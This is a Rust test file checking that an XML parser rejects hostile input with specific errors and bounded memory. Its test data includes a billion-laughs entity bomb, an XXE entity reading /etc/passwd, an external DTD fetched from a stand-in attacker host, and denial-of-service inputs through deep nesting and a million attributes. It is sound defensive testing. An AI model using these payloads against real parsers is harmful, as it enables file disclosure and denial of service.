//! Hostile input: each attack is refused with its own specific error, and the memory the
//! parser allocates stays bounded (measured with a counting allocator, not assumed).

use mezhved_xml::{parse, LimitKind, Limits, XmlError};
use peak_alloc::PeakAlloc;
use std::sync::Mutex;

/// Counts live and peak heap bytes of this test binary.
#[global_allocator]
static ALLOCATOR: PeakAlloc = PeakAlloc;
/// Tests run in parallel threads; measurements take this lock so they don't overlap.
static MEASURE: Mutex<()> = Mutex::new(());

/// Parses `input` and returns the result with the peak heap growth during the parse.
fn parse_measured(input: &[u8], limits: &Limits) -> (Result<(), XmlError>, usize) {
    let _guard = MEASURE.lock().unwrap_or_else(|e| e.into_inner());
    let base = ALLOCATOR.current_usage();
    ALLOCATOR.reset_peak_usage();
    let result = parse(input, limits).map(|_| ());
    let peak = ALLOCATOR.peak_usage().saturating_sub(base);
    (result, peak)
}

const MIB: usize = 1024 * 1024;

#[test]
fn billion_laughs_is_refused_as_an_entity_declaration() {
    let mut doc =
        String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n");
    doc.push_str(" <!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n");
    for i in 2..=9 {
        let prev = format!("&lol{};", i - 1);
        doc.push_str(&format!(" <!ENTITY lol{i} \"{}\">\n", prev.repeat(10)));
    }
    doc.push_str("]>\n<lolz>&lol9;</lolz>\n");
    let (r, peak) = parse_measured(doc.as_bytes(), &Limits::default());
    assert!(
        matches!(r, Err(XmlError::EntityDeclarationForbidden { .. })),
        "{r:?}"
    );
    assert!(peak < 64 * 1024, "peak {peak} bytes");
}

#[test]
fn external_entity_is_refused_as_an_external_reference() {
    let doc = br#"<?xml version="1.0"?>
<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<foo>&xxe;</foo>"#;
    let r = parse(doc, &Limits::default());
    assert!(
        matches!(r, Err(XmlError::ExternalReferenceForbidden { position }) if position.line == 2),
        "{r:?}"
    );
    // A parameter entity pulling an external DTD is the same danger.
    let doc = br#"<!DOCTYPE foo [<!ENTITY % ext PUBLIC "-//x//y" "http://attacker.invalid/x.dtd"> %ext;]><foo/>"#;
    assert!(matches!(
        parse(doc, &Limits::default()),
        Err(XmlError::ExternalReferenceForbidden { .. })
    ));
}

#[test]
fn any_dtd_is_refused() {
    for doc in [
        &b"<!DOCTYPE foo><foo/>"[..],
        b"<?xml version=\"1.0\"?><!-- c --><!DOCTYPE foo [<!ELEMENT foo ANY>]><foo/>",
        b"<!doctype foo><foo/>",
        // Words after the declaration do not make it an external reference.
        b"<!DOCTYPE foo><foo>SYSTEM PUBLIC</foo>",
    ] {
        let r = parse(doc, &Limits::default());
        assert!(matches!(r, Err(XmlError::DtdForbidden { .. })), "{r:?}");
    }
    let r = parse(
        b"<!DOCTYPE foo SYSTEM \"foo.dtd\"><foo/>",
        &Limits::default(),
    );
    assert!(
        matches!(r, Err(XmlError::ExternalReferenceForbidden { .. })),
        "{r:?}"
    );
}

#[test]
fn undefined_entity_reference_is_refused_with_its_name() {
    let r = parse(b"<a>&nbsp;</a>", &Limits::default());
    assert!(
        matches!(&r, Err(XmlError::UndefinedEntity { name, .. }) if name == "nbsp"),
        "{r:?}"
    );
    let r = parse(b"<a b='&x;'/>", &Limits::default());
    assert!(
        matches!(&r, Err(XmlError::UndefinedEntity { name, .. }) if name == "x"),
        "{r:?}"
    );
}

#[test]
fn deep_nesting_stops_at_the_depth_limit_with_bounded_memory() {
    let depth = 100_000;
    let mut doc = "<a>".repeat(depth);
    doc.push_str(&"</a>".repeat(depth));
    let (r, peak) = parse_measured(doc.as_bytes(), &Limits::default());
    match r {
        Err(XmlError::LimitExceeded {
            kind: LimitKind::Depth,
            max,
            position,
        }) => {
            assert_eq!(max, Limits::default().max_depth);
            assert_eq!(
                position.offset,
                3 * max,
                "error points at the offending start tag"
            );
        }
        other => panic!("{other:?}"),
    }
    assert!(peak < MIB, "peak {peak} bytes");
}

#[test]
fn a_million_attributes_stop_at_the_attribute_limit_with_bounded_memory() {
    let mut doc = String::with_capacity(12 * 1_000_000);
    doc.push_str("<a");
    for i in 0..1_000_000 {
        doc.push_str(&format!(" a{i}=\"\""));
    }
    doc.push_str("/>");
    let (r, peak) = parse_measured(doc.as_bytes(), &Limits::default());
    assert!(
        matches!(
            r,
            Err(XmlError::LimitExceeded {
                kind: LimitKind::AttributesPerElement,
                ..
            })
        ),
        "{r:?}"
    );
    // The input itself is ~12 MB; the parser must not copy it or keep per-attribute state
    // past the limit.
    assert!(peak < MIB, "peak {peak} bytes");
}

#[test]
fn oversize_input_is_refused_before_reading_it() {
    let limits = Limits {
        max_bytes: 1024,
        ..Limits::default()
    };
    let doc = format!("<a>{}</a>", "x".repeat(2000));
    let (r, peak) = parse_measured(doc.as_bytes(), &limits);
    assert!(
        matches!(
            r,
            Err(XmlError::LimitExceeded {
                kind: LimitKind::TotalBytes,
                max: 1024,
                ..
            })
        ),
        "{r:?}"
    );
    assert!(peak < 4096, "peak {peak} bytes");
}

#[test]
fn each_other_limit_is_enforced() {
    let small = Limits {
        max_elements: 10,
        max_namespace_declarations: 3,
        max_text_len: 16,
        max_name_len: 8,
        ..Limits::default()
    };
    let cases: [(&[u8], LimitKind); 5] = [
        (
            &b"<a><b/><b/><b/><b/><b/><b/><b/><b/><b/><b/></a>"[..],
            LimitKind::Elements,
        ),
        (
            b"<a xmlns:a='urn:a' xmlns:b='urn:b'><c xmlns:c='urn:c' xmlns:d='urn:d'/></a>",
            LimitKind::NamespaceDeclarations,
        ),
        (b"<a>0123456789abcdefg</a>", LimitKind::TextLength),
        (b"<a x='0123456789abcdefg'/>", LimitKind::TextLength),
        (b"<abcdefghij/>", LimitKind::NameLength),
    ];
    for (doc, kind) in cases {
        let r = parse(doc, &small);
        assert!(
            matches!(&r, Err(XmlError::LimitExceeded { kind: k, .. }) if *k == kind),
            "{}: {r:?}",
            String::from_utf8_lossy(doc)
        );
    }
    // Text split by references still counts as one text node.
    let r = parse(b"<a>01234567&amp;89abcdefg</a>", &small);
    assert!(matches!(
        r,
        Err(XmlError::LimitExceeded {
            kind: LimitKind::TextLength,
            ..
        })
    ));
}

#[test]
fn malformed_input_errors_carry_line_and_column() {
    let r = parse(b"<a>\n  <b></c>\n</a>", &Limits::default());
    match r {
        Err(XmlError::Malformed { position, .. }) => assert_eq!(position.line, 2),
        other => panic!("{other:?}"),
    }
    for bad in [
        &b""[..],
        b"<a>",
        b"<a></a><b/>",
        b"text<a/>",
        b"<a x='1' x='2'/>",
        b"<a xmlns:p='urn:1' xmlns:q='urn:1' p:x='1' q:x='2'/>",
        b"<p:a/>",
        b"<a xmlns:p=''/>",
        b"<a x='<'/>",
        b"<a>&#0;</a>",
        b"<a>\x01</a>",
        b"<a>\xff</a>",
        b"<?xml version='1.0' encoding='windows-1251'?><a/>",
        b"<a><?xml version='1.0'?></a>",
    ] {
        assert!(
            parse(bad, &Limits::default()).is_err(),
            "accepted: {}",
            String::from_utf8_lossy(bad)
        );
    }
}

#[test]
fn multibyte_characters_right_after_the_prolog_are_fine() {
    // Regression: the DOCTYPE probe once sliced a &str inside a multi-byte character.
    let doc = "<?xml version=\"1.0\"?>\n<ф:Я xmlns:ф=\"urn:ф\"/>";
    assert!(parse(doc.as_bytes(), &Limits::default()).is_ok());
    assert!(parse("<Ж/>".as_bytes(), &Limits::default()).is_ok());
}
